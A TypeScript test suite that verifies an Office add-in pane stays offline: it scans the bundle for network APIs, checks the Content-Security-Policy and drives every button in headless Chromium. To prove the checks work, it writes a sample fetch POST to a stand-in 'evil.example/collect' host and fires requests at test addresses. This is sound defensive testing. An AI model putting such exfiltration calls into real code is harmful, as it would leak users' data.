/**
 * The offline guarantee (issue #6 §3), authoritative test over the BUILT pane (run after
 * `npx webpack --mode production`):
 *  - static: scripts/scan-bundle.js finds every fetch( / XMLHttpRequest / WebSocket / sendBeacon /
 *    EventSource / importScripts / Worker / serviceWorker and external URL in dist/, and each one
 *    is covered by a reviewed entry of network-allowlist.json (and no entry is stale);
 *  - the Content-Security-Policy of dist/taskpane.html: scripts from self only (self-hosted
 *    office.js build), styles 'unsafe-inline' with the reason stated, connections to self only;
 *  - dynamic: headless Chromium drives EVERY button of the pane (检查, the filters, a finding,
 *    重新计算 → 取消 / 应用, 撤销, 标记到工作簿, 插入模板 → 取消 / 覆盖, 生成报告 → sheet and
 *    .docx, 识别映射 (a column, a role change → 确认并保存, 恢复自动识别), the sheet tabs, 关闭),
 *    and fails when any button seen in any state was not clicked; every HTTP(S) request and
 *    WebSocket leaving 127.0.0.1 is aborted and fails the test; no service worker, no CSP
 *    violation (but office.js's refused telemetry frame), nothing sent on unload.
 */
import { existsSync, readFileSync } from 'fs';
import { tmpdir } from 'os';
import { resolve } from 'path';
import type { BrowserContext, Page } from 'playwright-core';
import { startStaticServer } from './static-server';
import { launchChromium, guardOffline, openPreviewPane } from './chromium';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { scanBundle } = require('../../scripts/scan-bundle.js') as {
  scanBundle(dist?: string, allowlist?: string): {
    files: string[];
    occurrences: Array<{ file: string; kind: string; text: string }>;
    unreviewed: Array<{ file: string; kind: string; text: string; context: string }>;
    stale: Array<{ file: string; kind: string; match: string }>;
  };
};

const ROOT = resolve(__dirname, '../..');
/** office.js's telemetry frame origin (see network-allowlist.json, office/**). */
const OFFICE_TELEMETRY_FRAME = 'https://telemetryservice.firstpartyapps.oaspapps.com';
const DIST = resolve(ROOT, 'dist');

function requireDist(): void {
  if (!existsSync(resolve(DIST, 'taskpane.html'))) throw new Error('dist/taskpane.html missing: run `npx webpack --mode production` before the browser tests');
}

describe('bundle scan against the reviewed allowlist', () => {
  test('every network API and external URL in dist/ is reviewed; no allowlist entry is stale', () => {
    requireDist();
    const r = scanBundle(DIST, resolve(ROOT, 'network-allowlist.json'));
    expect(r.files.length).toBeGreaterThan(5);
    expect(r.occurrences.length).toBeGreaterThan(0);
    expect(r.unreviewed.map((o) => `${o.file} ${o.kind} ${o.text} …${o.context}…`)).toEqual([]);
    expect(r.stale).toEqual([]);
  });

  test('our own code has no network API at all: every fetch/XMLHttpRequest/WebSocket/sendBeacon/EventSource is in office.js', () => {
    requireDist();
    const r = scanBundle(DIST, resolve(ROOT, 'network-allowlist.json'));
    const ours = r.occurrences.filter((o) => !o.file.startsWith('office/') && ['fetch', 'XMLHttpRequest', 'WebSocket', 'sendBeacon', 'EventSource', 'Worker', 'serviceWorker'].includes(o.kind));
    // The one exception: the bureau batch page starts its own inlined checker from a blob: URL
    // (reviewed in network-allowlist.json; test/e2e/batch-page.e2e.test.ts records its requests).
    expect(ours.filter((o) => !(o.file === 'batch.html' && o.kind === 'Worker')).map((o) => `${o.file} ${o.kind}`)).toEqual([]);
    expect(ours.filter((o) => o.file === 'batch.html').map((o) => o.text)).toEqual(['newWorker(']);
  });

  test('the scanner is not vacuous: an unlisted URL and an unlisted fetch( are reported', () => {
    const { mkdtempSync, writeFileSync, rmSync } = jest.requireActual<typeof import('fs')>('fs');
    const dir = mkdtempSync(resolve(tmpdir(), 'jixiao-scan-'));
    try {
      writeFileSync(resolve(dir, 'a.js'), 'x=fetch ("https://evil.example/collect",{method:"POST"});y="http://www.w3.org/2000/svg";navigator.sendBeacon(u)');
      const r = scanBundle(dir, resolve(ROOT, 'network-allowlist.json'));
      expect(r.unreviewed.map((o) => `${o.kind} ${o.text}`).sort()).toEqual(['fetch fetch(', 'sendBeacon sendBeacon', 'url https://evil.example/collect']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('Content-Security-Policy of dist/taskpane.html', () => {
  test('script-src self (+ the inline boot check by hash) only; style-src unsafe-inline with its reason; connect-src self', () => {
    requireDist();
    const html = readFileSync(resolve(DIST, 'taskpane.html'), 'utf8');
    const metas = [...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/g)].map((m) => m[1]);
    expect(metas).toHaveLength(1);
    const directives = new Map(
      metas[0]
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map((d) => [d[0], d.slice(1)] as const),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    const scripts = directives.get('script-src') ?? [];
    expect(scripts[0]).toBe("'self'");
    expect(scripts.slice(1).every((s) => /^'sha256-[A-Za-z0-9+/=]+'$/.test(s))).toBe(true);
    expect(scripts).not.toContain("'unsafe-inline'");
    expect(scripts).not.toContain("'unsafe-eval'");
    expect(directives.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(metas[0]).not.toMatch(/https?:|wss?:|\*/);
    // The reason for 'unsafe-inline' (Fluent UI's run-time <style> injection) is stated in the page.
    expect(html).toMatch(/'unsafe-inline':\s*Fluent UI v9 \(Griffel\) injects its CSS at run time/);
    // Every script the page loads is from our own origin (relative), office.js included.
    const srcs = [...html.matchAll(/<script\b[^>]*\bsrc="([^"]+)"/g)].map((m) => m[1]);
    expect(srcs.length).toBeGreaterThan(0);
    expect(srcs.filter((s) => /^(https?:)?\/\//.test(s))).toEqual([]);
    expect(srcs).toContain('office/office.js');
  });
});

describe('every button of the built pane, offline (preview host in Chromium)', () => {
  let server: Awaited<ReturnType<typeof startStaticServer>>;
  let browser: Awaited<ReturnType<typeof launchChromium>>;
  let context: BrowserContext;
  let external: string[];
  const sockets: string[] = [];
  const pageErrors: string[] = [];

  beforeAll(async () => {
    requireDist();
    server = await startStaticServer(DIST);
    browser = await launchChromium();
    context = browser.context;
    external = await guardOffline(context);
    // WebSockets are not HTTP routes: guard them separately (any, even to 127.0.0.1, is unexpected).
    await context.routeWebSocket(/.*/, (ws) => {
      sockets.push(ws.url());
      void ws.close();
    });
    await context.addInitScript(() => {
      const w = window as unknown as { __csp: string[]; __beacons: string[] };
      w.__csp = [];
      w.__beacons = [];
      document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
      const beacon = navigator.sendBeacon?.bind(navigator);
      if (beacon) navigator.sendBeacon = (url: string | URL, data?: BodyInit | null) => (w.__beacons.push(String(url)), beacon(url, data));
    });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  function openPane(): Promise<Page> {
    return openPreviewPane(context, server.origin, pageErrors, (page) => page.on('websocket', (ws) => sockets.push(ws.url())));
  }

  // By text, not by role: an opening Fluent dialog can keep its content out of the accessibility tree for a moment.
  const button = (page: Page, name: string) => page.locator('button:visible', { hasText: new RegExp(`^\\s*${name}\\s*$`) });

  async function settle(page: Page): Promise<void> {
    await page.waitForFunction(() => !document.querySelector('[data-testid="progress"]'), undefined, { timeout: 30_000 }).catch(() => undefined);
  }

  test('drives every button with every request leaving 127.0.0.1 failing the test', async () => {
    const page = await openPane();
    const clicked = new Set<string>();
    const seen = new Set<string>();
    /** Buttons on the page now, by data-testid where they have one, else by their text. */
    const inventory = async () => {
      const keys = await page.locator('button:visible').evaluateAll((els) =>
        els.map((e) => e.getAttribute('data-testid') || (e.textContent ?? '').trim() || e.getAttribute('title') || '?'),
      );
      for (const k of keys) seen.add(k);
    };
    const click = async (name: string, locator = button(page, name)) => {
      await inventory();
      try {
        await locator.first().click({ timeout: 15_000 });
      } catch (e) {
        const dialog = await page.getByRole('dialog').allTextContents().catch((): string[] => []);
        await page.screenshot({ path: resolve(tmpdir(), 'jixiao-offline-failure.png') }).catch(() => undefined);
        dialog.push(String(await page.locator('button').allTextContents()));
        throw new Error(`clicking ${name} after [${[...clicked].join(', ')}] failed (dialog: ${dialog.join(' | ').slice(0, 300)}): ${(e as Error).message.split('\n')[0]}`);
      }
      clicked.add(name);
      await settle(page);
      if (process.env.E2E_TIMINGS) console.log(`${name} ${Date.now() - t0} ms`);
    };
    const t0 = Date.now();

    // 检查 → every filter → a finding (selects its cell)
    await click('检查');
    await page.getByTestId('filter-all').waitFor();
    for (const id of await page.locator('[data-testid^="filter-"]').evaluateAll((els) => els.map((e) => e.getAttribute('data-testid')!))) {
      await click(id, page.getByTestId(id));
    }
    await click('finding-cell', page.getByTestId('finding-cell'));

    // 重新计算 → 取消; 重新计算 → 应用 → 关闭 the notice; 撤销
    await click('重新计算');
    await page.getByTestId('recompute-changes').waitFor();
    await click('recompute-cancel', page.getByTestId('recompute-cancel'));
    await click('重新计算');
    await page.getByTestId('apply').waitFor();
    // A withheld 总分's "先修正" selects the finding's cell (the dialog stays open).
    await click('withheld-fix', page.getByTestId('withheld-fix'));
    await click('apply', page.getByTestId('apply'));
    await page.getByTestId('notice').waitFor();
    await click('关闭');
    await click('撤销');

    // 起草偏差原因 → 取消; 起草偏差原因 → 写入草稿; 撤销
    await click('起草偏差原因');
    await click('reasons-cancel', page.getByTestId('reasons-cancel'));
    await click('起草偏差原因');
    await click('reasons-confirm', page.getByTestId('reasons-confirm'));
    await page.getByText('条偏差原因草稿', { exact: false }).waitFor();
    await click('撤销');

    // 标记到工作簿 (fills + 检查结果 sheet)
    await click('检查');
    await click('标记到工作簿');
    await page.locator('[data-testid="sheet-tab"]', { hasText: '检查结果' }).waitFor();
    await click('清除标记');
    await page.getByText('已清除', { exact: false }).waitFor();

    // 插入模板 → 取消; 插入模板 → 覆盖 (the sample already has the template's sheets)
    await click('插入模板');
    await page.getByTestId('confirm').waitFor();
    await click('template-cancel', page.getByTestId('template-cancel'));
    await click('插入模板');
    await click('confirm', page.getByTestId('confirm'));
    await page.getByText('已插入模板工作表', { exact: false }).waitFor();

    // 生成报告 → the 自评报告 sheet and the .docx download
    await click('生成报告');
    await page.getByTestId('download-docx').waitFor();
    await page.locator('[data-testid="sheet-tab"]', { hasText: '自评报告' }).waitFor();
    const download = page.waitForEvent('download');
    await click('download-docx', page.getByTestId('download-docx'));
    expect((await download).suggestedFilename()).toMatch(/\.docx$/);
    // The report's gaps: one selects its cell; 下载草稿 is a second file.
    await click('report-gap-cell', page.getByTestId('report-gap-cell'));
    const draft = page.waitForEvent('download');
    await click('download-draft', page.getByTestId('download-draft'));
    expect((await draft).suggestedFilename()).toMatch(/草稿.*\.docx$/);

    // 识别映射: open the view, select a column's cell, change a role → 确认并保存, 恢复自动识别, back to 检查结果
    await click('view-mapping', page.getByTestId('view-mapping'));
    await page.getByTestId('mapping-table').first().waitFor();
    await click('column-cell', page.getByTestId('column-cell'));
    await page.locator('[data-testid="mapping-column"][data-role="score"] select').first().selectOption('ignore');
    await page.getByTestId('mapping-dirty').waitFor();
    await click('mapping-save', page.getByTestId('mapping-save'));
    await page.getByTestId('table-confirmed').first().waitFor();
    await click('mapping-reset', page.getByTestId('mapping-reset'));
    await page.getByText('已清除保存的识别映射', { exact: false }).waitFor();
    // 添加未识别的表格: a sheet, 指标表, a range → 添加 (a new table card; the draft is unsaved)
    await click('mapping-add-sheet', page.getByTestId('mapping-add-sheet'));
    await page.getByRole('option', { name: '基本情况' }).click();
    await click('mapping-add-kind', page.getByTestId('mapping-add-kind'));
    await page.getByRole('option', { name: '指标表' }).click();
    await page.getByTestId('mapping-add-range').fill('A1:B5');
    await click('mapping-add', page.getByTestId('mapping-add'));
    await page.getByTestId('mapping-dirty').waitFor();
    await click('view-findings', page.getByTestId('view-findings'));

    // 检查Word报告: the button opens the file picker; the seed's .docx is chosen; its findings
    // replace the list until 返回 (word-report-close).
    const chooser = page.waitForEvent('filechooser');
    await click('check-word', page.getByTestId('check-word'));
    await (await chooser).setFiles(resolve(ROOT, 'test/fixtures/docx/seed-report.docx'));
    await page.getByTestId('word-report-banner').waitFor();
    await click('word-report-close', page.getByTestId('word-report-close'));

    // every sheet tab of the preview grid
    const tabs = await page.getByTestId('sheet-tab').allTextContents();
    for (const t of tabs) await click('sheet-tab', page.locator('[data-testid="sheet-tab"]', { hasText: t }));
    await inventory();

    for (const required of ['检查', 'filter-all', 'filter-error', 'filter-warning', 'filter-info', 'finding-cell', '重新计算', 'apply', 'recompute-cancel', 'template-cancel', 'withheld-fix', '起草偏差原因', 'reasons-cancel', 'reasons-confirm', '撤销', '标记到工作簿', '清除标记', '插入模板', 'confirm', 'report-gap-cell', 'download-draft', '生成报告', 'download-docx', '关闭', 'view-mapping', 'column-cell', 'mapping-save', 'mapping-reset', 'mapping-add-sheet', 'mapping-add-kind', 'mapping-add', 'view-findings', 'check-word', 'word-report-close', 'sheet-tab']) {
      expect([required, clicked.has(required)]).toEqual([required, true]);
    }
    // Every button that appeared in any state above was clicked (so a button added later fails here until driven).
    expect([...seen].filter((k) => !clicked.has(k))).toEqual([]);

    // Anything deferred (timers, idle callbacks) gets a chance to fire; then unload (beacons).
    await page.waitForTimeout(1500);
    const w = await page.evaluate(() => {
      const x = window as unknown as { __csp: string[]; __beacons: string[] };
      return { csp: x.__csp, beacons: x.__beacons };
    });
    const workers = await page.evaluate(async () => (navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0));
    await page.close({ runBeforeUnload: true });
    await new Promise((r) => setTimeout(r, 500));

    expect(external).toEqual([]);
    expect(sockets).toEqual([]);
    expect(w.beacons).toEqual([]);
    // The only refusal allowed: office.js (Microsoft's, loaded outside Office here) opens a telemetry
    // iframe; the CSP (frame-src via default-src 'self') refuses it before any request is made —
    // `external` above proves nothing reached the network.
    expect(w.csp.filter((v) => v !== `frame-src ${OFFICE_TELEMETRY_FRAME}`)).toEqual([]);
    expect(workers).toBe(0);
    expect(pageErrors).toEqual([]);
    // Only our own files were requested from the local server.
    expect(server.requests.filter((p) => !/^\/(taskpane\.html|office\/|assets\/|[\w.-]+\.js$|favicon\.ico$)/.test(p))).toEqual([]);
  });

  test('the guard is not vacuous: fetch, XMLHttpRequest, sendBeacon, WebSocket and an image to another host are caught', async () => {
    const page = await openPane();
    await page.evaluate(async () => {
      await fetch('http://192.0.2.10/fetch').catch(() => undefined);
      const x = new XMLHttpRequest();
      x.open('GET', 'http://192.0.2.11/xhr');
      x.send();
      navigator.sendBeacon('http://192.0.2.12/beacon', 'x');
      try {
        new WebSocket('ws://192.0.2.13/ws');
      } catch {
        /* CSP may refuse synchronously */
      }
      const img = new Image();
      img.src = 'http://192.0.2.14/pixel.png';
      await new Promise((r) => setTimeout(r, 300));
    });
    const csp = (await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).join('\n');
    // The CSP refuses each before the network (a WebSocket: the CSP or the socket guard) …
    for (const host of ['192.0.2.10', '192.0.2.11', '192.0.2.12', '192.0.2.14']) expect(csp).toContain(host);
    expect(csp.includes('192.0.2.13') || sockets.some((u) => u.includes('192.0.2.13'))).toBe(true);
    // … and a navigation (not covered by connect-src) is caught by the route guard.
    await page.goto('http://192.0.2.15/elsewhere').catch(() => undefined);
    expect(external.splice(0)).toContain('http://192.0.2.15/elsewhere');
    await page.close();
    pageErrors.splice(0);
    sockets.splice(0);
  });
});
